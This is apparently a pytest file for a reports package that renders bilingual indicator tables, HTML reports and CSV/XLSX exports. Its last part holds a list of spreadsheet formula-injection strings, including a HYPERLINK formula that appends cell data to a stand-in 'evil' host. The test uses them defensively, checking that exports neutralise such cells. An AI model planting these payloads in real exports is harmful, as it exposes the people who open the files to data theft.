"""Specifications of the reports package: what a reader of the tables, report and exports sees.

The warehouse is the small fixture of ``tests/reports_fixtures.py``. One rendered table is kept
as a snapshot in ``tests/reports/test_reports/``; after a reviewed change to the tables, refresh
it with

    .venv/bin/python -m pytest tests/reports/test_reports.py --force-regen
"""

from __future__ import annotations

import csv
import html
import importlib
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from python_calamine import CalamineWorkbook

import reports
from indicators import Catalogue, load_catalogue
from reports import build_domain_table, write_exports, write_report
from tests.reports_fixtures import (
    EPCI,
    GROUP_NAME_FR,
    LOW_RELIABILITY,
    SIGNIFICANT_DOWN,
    SIGNIFICANT_UP,
    SUPPRESSED,
    TERRITORIES,
    THOUSANDS,
    YEAR,
    build_warehouse,
)

NAMES = {code: name for code, _, name in TERRITORIES}


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return load_catalogue()


@pytest.fixture(scope="module")
def con(catalogue: Catalogue) -> duckdb.DuckDBPyConnection:
    return build_warehouse(catalogue)


def render(con, catalogue, domain="LL", lang="en", territories=None) -> str:
    return build_domain_table(con, catalogue, domain, YEAR, lang, territories).as_raw_html()


class _Cells(HTMLParser):
    """Body cells of a great-tables table: {(row label, column name): (style, text)}."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: dict[tuple[str, str], tuple[str, str]] = {}
        self._stub = ""
        self._in: str | None = None
        self._attrs: dict[str, str] = {}
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = {k: v or "" for k, v in attrs}
        if tag == "th" and attributes.get("scope") == "row" or tag == "td" and (
                "headers" in attributes):
            self._in, self._attrs, self._text = tag, attributes, []

    def handle_endtag(self, tag):
        if tag != self._in:
            return
        content = "".join(self._text).strip()
        if tag == "th":
            self._stub = content
        else:
            column = self._attrs["headers"].split()[-1].split("-", 2)[-1]
            self.cells[(self._stub, column)] = (self._attrs.get("style", ""), content)
        self._in = None

    def handle_data(self, data):
        if self._in:
            self._text.append(data)


def cells_of(table_html: str) -> dict[tuple[str, str], tuple[str, str]]:
    parser = _Cells()
    parser.feed(table_html)
    return parser.cells


def footer_of(table_html: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", table_html.split("<tfoot>")[1]))


def background(style: str) -> str | None:
    found = re.search(r"background-color: (#[0-9a-fA-F]{6})", style)
    return found.group(1) if found else None


def luminance(colour: str) -> float:
    red, green, blue = (int(colour[i:i + 2], 16) for i in (1, 3, 5))
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


# --- public surface -------------------------------------------------------------------------

def test_every_public_name_imports():
    module = importlib.import_module("reports")
    for name in reports.__all__:
        assert getattr(module, name) is not None, name


def test_an_unsupported_language_is_refused(con, catalogue):
    with pytest.raises(ValueError, match="unsupported language 'de'"):
        build_domain_table(con, catalogue, "LL", YEAR, "de")


# --- domain tables --------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["en", "fr"])
def test_domain_table_shows_every_indicator_label_and_every_territory(con, catalogue, lang):
    for domain in catalogue.domains:
        table = render(con, catalogue, domain.code, lang)
        for indicator in catalogue.in_domain(domain.code):
            assert html.escape(indicator.label(lang)) in table, indicator.id
            assert html.escape(indicator.unit(lang)) in table, indicator.id
        stubs = {row for row, _ in cells_of(table)}
        group_name = GROUP_NAME_FR if lang == "fr" else NAMES["UNESCO_FR"]
        assert stubs == {NAMES[code] for code in NAMES if code != "UNESCO_FR"} | {group_name}


def test_french_table_uses_decimal_commas_narrow_spaces_and_french_labels(con, catalogue):
    table = render(con, catalogue, "SKL", "fr")
    values = [text for _, text in cells_of(table).values()]
    assert any(re.fullmatch(r"\d+,\d.*", v) for v in values)
    assert not any(re.search(r"\d\.\d", v) for v in values)
    assert "1\u202f234" in table  # SKL06 of the EPCI, 0 decimals
    for french in ("Territoire", "Évolution", "Communes", "Départements", "Groupes de territoires",
                   "Diplômés du supérieur (25-34 ans)", GROUP_NAME_FR):
        assert html.escape(french) in table, french
    english = render(con, catalogue, "SKL", "en")
    assert "1,234" in english and "Change" in english


def test_table_rows_follow_the_given_territories_grouped_by_level(con, catalogue):
    chosen = ["56260", "53", "56243", EPCI]
    rows = list(dict.fromkeys(row for row, _ in cells_of(render(con, catalogue, "LL", "en",
                                                                   chosen))))
    assert rows == [NAMES["56260"], NAMES["56243"], NAMES["53"], NAMES[EPCI]]


def test_unknown_territories_are_an_error_not_a_gap(con, catalogue):
    with pytest.raises(ValueError, match=r"without any value: \[.99999.\]"):
        build_domain_table(con, catalogue, "LL", YEAR, "en", ["56260", "99999"])


def test_a_suppressed_cell_shows_the_symbol_and_footnote_but_no_value(con, catalogue):
    table = render(con, catalogue, "LL", "en")
    style, content = cells_of(table)[(NAMES[SUPPRESSED[1]], f"{SUPPRESSED[0]}__value")]
    mark, symbol = content.split()
    assert symbol == "×" and not re.search(r"\d", content)
    assert background(style) is None
    assert f"{mark} × Not published: fewer than 30 respondents." in footer_of(table)


def test_a_low_reliability_value_is_italic_with_its_own_mark(con, catalogue):
    table = render(con, catalogue, "LL", "en")
    cells = cells_of(table)
    style, content = cells[(NAMES[LOW_RELIABILITY[1]], f"{LOW_RELIABILITY[0]}__value")]
    mark = content.split()[0]
    suppressed_mark = cells[(NAMES[SUPPRESSED[1]], f"{SUPPRESSED[0]}__value")][1].split()[0]
    assert "font-style: italic" in style and re.search(r"\d+\.\d", content)
    assert mark != suppressed_mark
    assert f"{mark} Low reliability (fewer than 100 respondents" in footer_of(table)


def test_survey_values_show_their_confidence_interval(con, catalogue):
    cells = cells_of(render(con, catalogue, "LL", "en"))
    _, content = cells[(NAMES["56260"], "LL01__value")]
    assert re.fullmatch(r"\d+\.\d\d+\.\d–\d+\.\d", content)  # value, then "low–high"


def test_significant_changes_get_an_arrow_and_a_footnote_others_stay_plain(con, catalogue):
    table = render(con, catalogue, "LL", "en")
    cells = cells_of(table)
    up = cells[(NAMES[SIGNIFICANT_UP[1]], f"{SIGNIFICANT_UP[0]}__change")][1]
    down = cells[(NAMES[SIGNIFICANT_DOWN[1]], f"{SIGNIFICANT_DOWN[0]}__change")][1]
    plain = cells[(NAMES["53"], "LL01__change")][1]
    assert re.fullmatch(r"\w ▲\u202f\+9\.0", up) and re.fullmatch(r"\w ▼\u202f−8\.0", down)
    assert re.fullmatch(r"[+−]\d\.\d", plain)
    assert '<span class="lci-sig">▲' in table
    assert "statistically significant at the 5% level" in footer_of(table)


def test_colours_darken_with_better_values_and_reverse_for_lower_is_better(con, catalogue):
    cells = cells_of(render(con, catalogue, "LL", "en"))
    for column, better_is_higher in (("LL01__value", True), ("LL08__value", False)):
        shaded = sorted(
            (float(re.match(r"\d+\.\d", text).group()), luminance(background(style)))
            for (_, col), (style, text) in cells.items() if col == column and background(style)
        )
        assert len(shaded) >= 5
        lightness = [light for _, light in shaded]
        expected = sorted(lightness, reverse=better_is_higher)
        assert lightness == expected, column


def test_context_indicators_and_missing_cells_are_not_coloured(con, catalogue):
    cells = cells_of(render(con, catalogue, "LNK", "en"))
    assert all(background(style) is None for (_, col), (style, _) in cells.items()
               if col.startswith(("LNK01", "LNK02")))
    assert any(background(style) for (_, col), (style, _) in cells.items()
               if col == "LNK03__value")
    eco = cells_of(render(con, catalogue, "ECO", "en"))
    assert eco[(NAMES["UNESCO_FR"], "ECO02__value")] == ("", "—")


def test_sources_are_noted_under_the_table(con, catalogue):
    footer = footer_of(render(con, catalogue, "LNK", "en"))
    assert "Source (LNK01, LNK02, LNK03): Home-work commuting flows (census, MOBPRO model)." \
        in footer
    assert "Source (LNK06): Education authority and business club." in footer


def test_domain_table_is_deterministic(con, catalogue):
    assert render(con, catalogue, "LL", "fr") == render(con, catalogue, "LL", "fr")
    assert 'id="lci-ll"' in render(con, catalogue, "LL", "fr")


def test_domain_table_matches_its_snapshot(con, catalogue, file_regression):
    """The body of the LL table for three territories: CI, suppression, significance."""
    table = render(con, catalogue, "LL", "en", ["56260", "56243", EPCI])
    fragment = table[table.index("<table"):table.index("</table>") + len("</table>")]
    file_regression.check(fragment + "\n", basename="domain_table_LL_en", extension=".html")


# --- report ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def report_en(con, catalogue, tmp_path_factory) -> reports.ReportFiles:
    return write_report(con, catalogue, YEAR, "en", tmp_path_factory.mktemp("en"))


def test_report_has_every_domain_its_tables_and_the_methods(report_en, catalogue):
    page = report_en.report.read_text(encoding="utf-8")
    for domain in catalogue.domains:
        assert f'id="domain-{domain.code}"' in page and f'href="#domain-{domain.code}"' in page
        assert (report_en.report.parent / "tables" / f"{domain.code}.html") in report_en.tables
    assert 'id="methods"' in page and "Methods and definitions" in page
    for indicator in catalogue:
        assert f'id="indicator-{indicator.id}"' in page
    for words in ("Taylor linearisation", "logit scale", "Not published below 30 respondents",
                  "coefficient of variation exceeds 20%", "KFLC", "About this report"):
        assert words in page, words
    assert "<script" not in page and "http" not in page.split("<main>")[0]


def test_french_report_is_french_throughout(con, catalogue, tmp_path):
    page = write_report(con, catalogue, YEAR, "fr", tmp_path).report.read_text(encoding="utf-8")
    assert '<html lang="fr">' in page
    for words in ("Indicateurs de la ville apprenante 2024", "Sommaire", "Méthodes et définitions",
                  "linéarisation de Taylor", "Plus bas = mieux", "À propos de ce rapport"):
        assert html.escape(words) in page, words
    for english in ("Methods and definitions", "Contents", "Higher is better", ">Change<"):
        assert english not in page, english


def test_report_files_are_byte_identical_across_runs(con, catalogue, report_en, tmp_path):
    again = write_report(con, catalogue, YEAR, "en", tmp_path)
    for first, second in zip(report_en.all, again.all, strict=True):
        assert first.read_bytes() == second.read_bytes(), first.name


def test_report_title_can_be_set(con, catalogue, tmp_path):
    page = write_report(con, catalogue, YEAR, "en", tmp_path, territories=["56260", "53"],
                        title="Vannes & Brittany").report.read_text(encoding="utf-8")
    assert "<h1>Vannes &amp; Brittany</h1>" in page


# --- exports --------------------------------------------------------------------------------

def test_exports_round_trip_and_are_deterministic(con, catalogue, tmp_path):
    csv_path, xlsx_path = write_exports(con, catalogue, tmp_path / "one")
    total = con.execute("SELECT count(*) FROM indicator_values").fetchone()[0]
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == total
    assert rows[0]["label_en"] == catalogue.get(rows[0]["indicator_id"]).label.en
    assert not any("e" in row["value"].lower() for row in rows)
    keys = [(r["indicator_id"], r["territory_level"], r["territory_code"], r["year"],
             r["breakdown"]) for r in rows]
    assert keys == sorted(keys)
    thousands = next(r for r in rows if (r["indicator_id"], r["territory_code"], r["year"],
                                         r["breakdown"]) == (*THOUSANDS[:2], str(YEAR), "total"))
    assert thousands["value"] == "1234.4"

    book = CalamineWorkbook.from_path(str(xlsx_path))
    assert book.sheet_names == ["Read me", *(d.code for d in catalogue.domains)]
    sheet_rows = sum(len(book.get_sheet_by_name(d.code).to_python()) - 1
                     for d in catalogue.domains)
    assert sheet_rows == total
    ll = book.get_sheet_by_name("LL").to_python()
    assert ll[0][:3] == ["indicator_id", "label_en", "unit_en"]
    assert isinstance(ll[1][ll[0].index("value")], float)

    csv_again, xlsx_again = write_exports(con, catalogue, tmp_path / "two")
    assert csv_again.read_bytes() == csv_path.read_bytes()
    assert xlsx_again.read_bytes() == xlsx_path.read_bytes()


HOSTILE_NAMES = ['=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "+1", "-1+1",
                 "\tcmd", "\r=1", "Saint-Malo\r=1+2"]


def test_csv_text_cells_that_spreadsheets_would_run_start_with_a_quote(catalogue, tmp_path):
    con = build_warehouse(catalogue)
    codes = [r[0] for r in con.execute(
        "SELECT DISTINCT territory_code FROM indicator_values ORDER BY 1").fetchall()]
    assert len(codes) >= len(HOSTILE_NAMES)
    named = dict(zip(codes, HOSTILE_NAMES, strict=False))
    for code, name in named.items():
        con.execute("UPDATE indicator_values SET territory_name = ? WHERE territory_code = ?",
                    [name, code])
    con.execute("UPDATE indicator_values SET status_reason = '-5 respondents' "
                "WHERE territory_code = ?", [codes[0]])
    csv_path, xlsx_path = write_exports(con, catalogue, tmp_path / "one")
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {r["territory_code"]: r["territory_name"] for r in rows}
    assert [names[c] for c in named] == [
        '\'=HYPERLINK("http://evil/"&A1,"x")', "'=1+2", "'@SUM(1+1)", "'+1", "'-1+1",
        "'\tcmd", "'\r=1", "Saint-Malo\r=1+2"]  # a CR inside a name is quoted
    assert {r["status_reason"] for r in rows if r["territory_code"] == codes[0]} == \
        {"'-5 respondents"}
    con.execute("UPDATE indicator_values SET value = -value WHERE value IS NOT NULL")
    csv_negative, _ = write_exports(con, catalogue, tmp_path / "negative")
    with csv_negative.open(encoding="utf-8", newline="") as handle:
        flipped = list(csv.DictReader(handle))
    values = [r["value"] for r in flipped if r["value"] not in ("", "0")]
    assert values and all(v.startswith("-") and float(v) < 0 for v in values)  # numbers stay
    again, _ = write_exports(con, catalogue, tmp_path / "two")
    assert again.read_bytes() == csv_negative.read_bytes()

    # The workbook writes every string as text: no cell of it is a formula.
    with zipfile.ZipFile(xlsx_path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                                  for n in sheets)
    book = CalamineWorkbook.from_path(str(xlsx_path))
    cells = {c for d in catalogue.domains for row in book.get_sheet_by_name(d.code).to_python()
             for c in row if isinstance(c, str)}
    assert {'=HYPERLINK("http://evil/"&A1,"x")', "=1+2", "@SUM(1+1)", "-1+1"} <= cells


def test_exports_refuse_indicators_missing_from_the_catalogue(catalogue, tmp_path):
    con = build_warehouse(catalogue)
    con.execute("UPDATE indicator_values SET indicator_id = 'ZZ99' WHERE indicator_id = 'LL01'")
    with pytest.raises(ValueError, match=r"missing from the catalogue: \['ZZ99'\]"):
        write_exports(con, catalogue, tmp_path)
    assert not list(Path(tmp_path).glob("*.csv"))
